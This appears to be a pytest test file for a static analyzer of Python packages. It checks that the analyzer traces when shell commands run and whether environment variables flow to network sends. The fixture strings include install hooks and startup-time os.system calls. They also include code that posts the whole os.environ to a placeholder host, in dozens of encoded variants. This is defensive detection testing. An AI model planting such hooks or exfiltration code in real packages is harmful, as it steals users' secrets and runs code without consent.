"""Each act is told with the moment at which it happens and with all that flowed into it."""

import pytest
from engine_flows import SAID, flows, program_of

from ostiary.core.coverage import Reach
from ostiary.program.flow import Act, Taint
from ostiary.program.model import Program

RUN = f"import os\nos.system('{SAID}')\n"
CALLED = f"import os\n\n\ndef go():\n    os.system('{SAID}')\n"
REACHES: dict[str, tuple[str, dict[str, str], Reach]] = {
    "setup.py": ("sdist", {"setup.py": RUN}, Reach.INSTALL),
    "what setup.py imports": (
        "sdist",
        {"setup.py": "import extra\n", "extra.py": RUN},
        Reach.INSTALL,
    ),
    "what setup.py calls": (
        "sdist",
        {"setup.py": "from extra import go\ngo()\n", "extra.py": CALLED},
        Reach.INSTALL,
    ),
    "a command of setup.py": (
        "sdist",
        {
            "setup.py": "import os\nfrom setuptools import setup\n"
            "from setuptools.command.install import install\n"
            f"class A(install):\n    def run(self):\n        os.system('{SAID}')\n\n\n"
            "setup(cmdclass={'install': A})\n"
        },
        Reach.INSTALL,
    ),
    "what a .pth imports": (
        "wheel",
        {"sample.pth": "import sample_start\n", "sample_start.py": RUN},
        Reach.START,
    ),
    "sitecustomize": ("wheel", {"sitecustomize.py": RUN}, Reach.START),
    "the package": ("wheel", {"sample/__init__.py": RUN}, Reach.IMPORT),
    "what the package imports": (
        "wheel",
        {"sample/__init__.py": "from . import deep\n", "sample/deep.py": RUN},
        Reach.IMPORT,
    ),
    "what nobody calls": ("wheel", {"sample/__init__.py": CALLED}, Reach.CALL),
    "the tests": ("sdist", {"tests/test_it.py": RUN}, Reach.TEST),
}
WAYS: dict[str, dict[str, str]] = {
    "from . import": {
        "sample/__init__.py": "from . import a\na.go(a.take())\n",
    },
    "from .a import": {
        "sample/__init__.py": "from .a import go, take\ngo(take())\n",
    },
    "from .a import with other names": {
        "sample/__init__.py": "from .a import go as g, take as t\ng(t())\n",
    },
    "everything": {
        "sample/__init__.py": "from .a import *\ngo(take())\n",
    },
    "by the whole name": {
        "sample/__init__.py": "import sample.a\nsample.a.go(sample.a.take())\n",
    },
    "in a function": {
        "sample/__init__.py": "def f():\n    from .a import go, take\n    go(take())\n\n\nf()\n",
    },
    "a value of the module": {
        "sample/__init__.py": "from . import a\na.go(a.KEPT)\n",
    },
    "by way of another module": {
        "sample/__init__.py": "from .b import go, take\ngo(take())\n",
        "sample/b.py": "from .a import go, take\n",
    },
    "by importlib": {
        "sample/__init__.py": "import importlib\na = importlib.import_module('sample.a')\na.go(a.take())\n",
    },
}
MODULE = (
    "import os\nimport requests\n\n\ndef take():\n    return dict(os.environ)\n\n\nKEPT = take()\n\n\n"
    "def go(x):\n    requests.post('https://c.example.invalid', json=x)\n"
)
HOLDERS = {
    "a list": "x = [1, [e]]",
    "a tuple": "x = (1, e)",
    "a set": "x = {1, str(e)}",
    "a dict": "x = {'a': {'b': e}}",
    "a dict that is filled": "x = {}\nx['a'] = e",
    "a dict that is filled under an unknown key": "x = {}\nx[input()] = e",
    "append": "x = []\nx.append(e)",
    "extend": "x = []\nx.extend([e])",
    "update": "x = {}\nx.update(a=e)",
    "a comprehension": "x = [k + v for k, v in e.items()]",
    "json": "import json\nx = json.dumps(e)",
    "str": "x = str(e)",
    "an f-string": "x = f'all: {e}'",
    "percent": "x = 'all: %s' % e",
    "format": "x = 'all: {}'.format(e)",
    "a sum": "x = 'all: ' + str(e)",
    "join": "x = '\\n'.join(k + '=' + v for k, v in e.items())",
    "base64": "import base64\nx = base64.b64encode(str(e).encode())",
    "compression": "import zlib\nx = zlib.compress(str(e).encode())",
    "pickle": "import pickle\nx = pickle.dumps(e)",
    "an object": "class A:\n    def __init__(self, e):\n        self.e = e\n\n\nx = A(e).e",
    "an object that is filled": "class A:\n    pass\n\n\na = A()\na.e = e\nx = a.e",
    "a class": "class A:\n    e = e\n\n\nx = A.e",
    "a function nobody knows": "import unheard\nx = unheard.of(e)",
    "a branch": "x = e if input() else {}",
    "a branch of statements": "if input():\n    x = e\nelse:\n    x = {}",
    "a try": "try:\n    x = e\nexcept Exception:\n    x = {}",
    "a loop": "x = ''\nfor k in e:\n    x += k + e[k]",
    "a copy": "x = e.copy()",
    "a merge": "x = {**e, 'a': 1}",
    "a sort": "x = sorted(e.items())",
}


def said(program: Program) -> list[tuple[Reach, bool]]:
    return [(one.reach, one.deep) for one in program.flows if one.text == SAID]


@pytest.mark.parametrize("name", REACHES)
def test_the_moment(name: str) -> None:
    form, files, reach = REACHES[name]
    assert said(program_of(form, files)) == [(reach, False)]


def test_a_module_below_a_package_that_is_asked_for_by_name_alone() -> None:
    files = {"sample/__init__.py": "", "sample/inner/__init__.py": "", "sample/inner/deep.py": RUN}
    assert said(program_of("wheel", files)) == [(Reach.IMPORT, True)]


@pytest.mark.parametrize("name", WAYS)
def test_through_files(name: str) -> None:
    program = program_of("wheel", {"sample/a.py": MODULE, **WAYS[name]})
    sent = [one for one in program.flows if one.act is Act.SEND and one.has(Taint.ENVIRONMENT)]
    assert [(one.at.path, one.reach) for one in sent] == [("sample/a.py", Reach.IMPORT)]
    assert sent[0].carries[0].spot.path == "sample/a.py"


@pytest.mark.parametrize("name", HOLDERS)
def test_what_holds_a_thing_carries_it(name: str) -> None:
    text = (
        f"import os\nimport requests\ne = dict(os.environ)\n{HOLDERS[name]}\n"
        "requests.post('https://c.example.invalid', data=x)\n"
    )
    [sent] = flows(text, Act.SEND)
    mark = sent.first(Taint.ENVIRONMENT)
    assert mark
    assert mark.spot.line == 3
    assert sent.target == "https://c.example.invalid"


def test_a_program_that_takes_and_sends_something_else_is_clean() -> None:
    text = (
        "import os\nimport requests\ne = dict(os.environ)\nx = {'a': 1}\n"
        "requests.post('https://c.example.invalid', data=x)\n"
    )
    [sent] = flows(text, Act.SEND)
    assert not sent.has(Taint.ENVIRONMENT)
